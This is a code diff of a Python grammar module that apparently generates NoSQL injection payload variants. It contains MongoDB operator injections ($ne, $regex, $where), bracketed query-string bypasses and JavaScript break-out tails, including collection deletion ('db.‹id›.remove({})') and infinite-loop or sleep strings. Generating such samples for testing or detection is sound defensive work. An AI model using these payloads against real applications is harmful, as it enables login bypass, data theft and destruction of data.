@@ -1,22 +1,24 @@
 """NoSQL injection in short: one operator, one bracketed key, one line of JavaScript."""
 
+from models.generator.attacks.nosqli import PUBLIC, SECRETS
 from models.generator.attacks.pieces import Grammar, Symbols
 
 # Tables: as many alternatives to a line as fit.
 # fmt: off
 _SYMBOLS: Symbols = {
     "f": (
-        "username", "user", "password", "pass", "passwd", "pwd", "email", "login", "token",
-        "secret", "pin", "code", "id", "_id", "‹id›", "user[name]", "auth", "uid", "key", "name",
-        "otp", "reset_token",
+        "username", "username", "login", "user[name]", "auth", "uid", "‹secret›", "‹secret›",
+        "‹secret›", "‹secret›",
     ),
+    "secret": SECRETS,
+    "open": PUBLIC,
     "all": (
         "''", '""', "null", "0", "-1", "1", "'‹abc›'", '"‹rnd›"', "‹n›", "undefined", "[]", "{}",
         "'a'", "NaN",
     ),
     "op": (
         "$ne", "$ne", "$ne", "$gt", "$gt", "$gte", "$lt", "$nin", "$regex", "$exists", "$not",
-        "$in", "$or", "$eq", "$type", "$mod", "$where", "$lte",
+        "$in", "$or", "$eq", "$type", "$where", "$lte",
     ),
     "any": (
         "'.*'", '".*"', "'^‹abc›'", '"^‹abc›.*"', "/.*/", "/^‹abc›/", "'.{‹n8›}'", '"^.{‹d›}"',
@@ -29,12 +31,18 @@ _SYMBOLS: Symbols = {
     "s": ("", " "),
     "o": (
         "{‹s›$‹ne¦gt¦gte¦lt¦nin›:‹s›‹all›‹s›}", '{‹s›"‹op›":‹s›‹all›‹s›}', "{'‹op›':‹s›‹all›}",
-        "{‹s›$regex:‹s›‹any›‹s›}", '{"$regex":"‹rx›"}', '{"$ne":‹all›}', '{"$gt":‹all›}',
-        "{$exists:‹s›true}", "{$where:‹s›'‹js›'}", '{"$where":"‹js›"}', "{$gt:‹s›undefined}",
-        '{"$in":[‹all›,‹all›]}',
-        "{$or:[{},{‹f›:‹all›}]}", "{$not:{$type:‹d›}}", '{"$nin":[‹all›]}', "{$ne:‹n›}",
-        '{"$gt":"","$ne":‹all›}', "{$mod:[‹d›,‹d›]}",
+        "‹bare›", "‹bare›", "‹bare›", "{$exists:‹s›true}", '{"$in":[‹all›,‹all›]}',
+        "{$mod:[‹d›,‹d›]}", '{"$gt":‹all›}',
     ),
+    # Also where nothing tells whose the operator is.
+    "bare": (
+        "{‹s›$‹ne¦nin›:‹s›‹all›‹s›}", "{‹s›$gt:‹s›''‹s›}", "{‹s›'$ne':‹s›‹all›‹s›}",
+        "{‹s›$regex:‹s›‹any›‹s›}", '{"$regex":"‹rx›"}', '{"$ne":‹all›}', '{"$gt":""}',
+        "{$where:‹s›'‹js›'}", '{"$where":"‹js›"}', "{$gt:‹s›undefined}",
+        "{$or:[{},{‹f›:‹all›}]}", "{$not:{$type:‹d›}}", '{"$nin":[‹all›]}', "{$ne:‹n›}",
+        '{"$gt":"","$ne":‹all›}',
+    ),
+    "bop": ("$ne", "$ne", "$gt", "$nin", "$regex", "$not", "$or", "$where"),
     "js": (
         "return true", "1==1", "sleep(‹nn›00)", "return(1)", "‹own›", "‹own›", "‹own›",
         "this.‹f›.match(/.*/)", "this.‹f›.match(/^‹abc›.*/)", "this.‹f›.length>‹d›",
@@ -51,7 +59,9 @@ _SYMBOLS: Symbols = {
         "sleep(‹nn›00)", "this.‹f›.startsWith('‹abc›')", "this.‹f›[‹d›]=='‹abc›'",
         "db.‹id›.remove({})", "db.getCollection('‹id›').find()", "Object.keys(this)[‹d›]=='‹f›'",
     ),
-    "var": ("x", "y", "a", "‹abc›", "foo", "z", "dummy", "‹id›"),
+    "q": ("'", '"'),
+    "back": ("return ‹n#2›==‹n#2›", "return ‹d›", "return(‹n›)", "return !‹d›", "return this.‹f›"),
+    "var": ("x", "y", "a", "‹abc›", "foo", "z", "‹id›"),
     "end": (
         "//", "//", "%00", "//%00", "/*", "<!--", "||'", ";//", "; //", "//‹rnd›", "#", "'\x00",
         "//+", "", "\\x00",
@@ -62,19 +72,20 @@ _GRAMMAR = Grammar(_SYMBOLS)
 
 RULES = _GRAMMAR.rules(
     operator_short=(
-        "‹o›", "‹o›", "‹f›=‹o›", "[‹o›]", "‹b›',‹s›‹o›", "{‹f›:‹s›‹o›}", "‹o›‹s›,‹s›‹f›:‹o›",
-        "‹op›: ‹all›", '"‹op›": ‹all›', "‹b›\", \"‹op›\": ‹all›", "‹b›', ‹op›: ‹all›",
+        "‹bare›", "‹bare›", "‹f›=‹o›", "[‹bare›]", "‹b›',‹s›‹o›", "{‹f›:‹s›‹o›}",
+        "‹o›‹s›,‹s›‹f›:‹o›", "‹open›=‹bare›", "{‹open›:‹s›‹bare›}", '{"‹secret›":‹o›}',
+        "‹bop›: ‹all›", '"‹bop›": ‹all›', "‹b›\", \"‹bop›\": ‹all›", "‹b›', ‹bop›: ‹all›",
     ),
     bracket_short=(
-        "‹f›[‹op›]=‹all›", "[‹op›]=‹d›", "‹f›[$ne]=", "‹f›[$ne]=‹n›", "‹f›[$regex]=‹rx›",
+        "‹f›[‹op›]=‹all›", "[$ne]=‹d›", "‹f›[$ne]=", "‹f›[$ne]=‹n›", "‹f›[$regex]=‹rx›",
         "[$regex]=‹rx›", "‹f›[$exists]=true&‹f›[$ne]=‹abc›", "?‹f›[$gt]=&‹f›[$ne]=",
         "‹f›[‹op›][]=‹abc›", "‹f›[$not][$in]=‹rnd›", "‹f›.$‹ne¦gt›=‹n›", "‹f›%5b$ne%5d=‹b›",
         "‹f›[$ne]=‹b›&‹f›[$ne]=‹b›", "‹f›[%24‹ne¦gt¦regex›]=‹b›",
         "‹f›[$options]=i&‹f›[$regex]=‹rx›",
     ),
     script_tail=(
-        "‹b›';‹s›‹js›;‹s›var ‹var›='", "‹b›'; return ‹true¦1¦‹d››; var ‹var›='",
-        '‹b›"; return true; var ‹var›="', "‹b›'‹s›||‹s›‹js›‹end›",
+        "‹b›';‹s›‹js›;‹s›var ‹var›='", "‹b›‹q#1›;‹s›‹back›;‹s›var ‹var›‹s›=‹s›‹q#1›",
+        "‹b›‹q#1›;‹s›‹back›;‹s›‹let¦const¦var› ‹var›=‹q#1›‹abc›", "‹b›'‹s›||‹s›‹js›‹end›",
         "‹b›'‹s›||‹s›'‹abc#1›'=='‹abc#1›‹end›", "‹b›'‹s›&&‹s›‹js›‹end›", '‹b›"‹s›||‹s›‹js›‹end›',
         "||‹s›‹d#1›==‹d#1›‹end›", "‹b›||‹s›‹js›‹end›", "‹b›' || 1==1‹end›", "‹b›';‹js›‹end›",
         "‹b›'; while(1);var ‹var›='", "‹b›\\'; ‹js›‹end›", "‹b›') || ‹js›‹end›", "‹b›'});‹js›‹end›",
